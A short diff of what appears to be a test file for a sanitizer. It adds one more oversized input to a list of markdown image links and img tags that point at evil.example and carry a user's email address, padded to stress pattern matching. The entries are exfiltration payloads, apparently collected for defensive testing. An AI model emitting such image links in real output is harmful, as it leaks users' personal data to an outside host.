@@ -111,6 +111,7 @@ LONG = [
     '![x](https://evil.example/"' + "a" * 70_000 + "<EMAIL_1>)",
     "![x](<https://evil.example/" + "a " * 40_000 + "<EMAIL_1>>)",
     '<img src="https://evil.example/' + "a " * 40_000 + '<EMAIL_1>">',
+    "![x](https://evil.example/" + "\u00a0\u00a0?q=" * 1000 + "<EMAIL_1>)",
     '<img src="' + "\t" * 5000 + "https://evil.example/" + "a " * 40_000 + '<EMAIL_1>">',
 ]
 IN_JSON = [
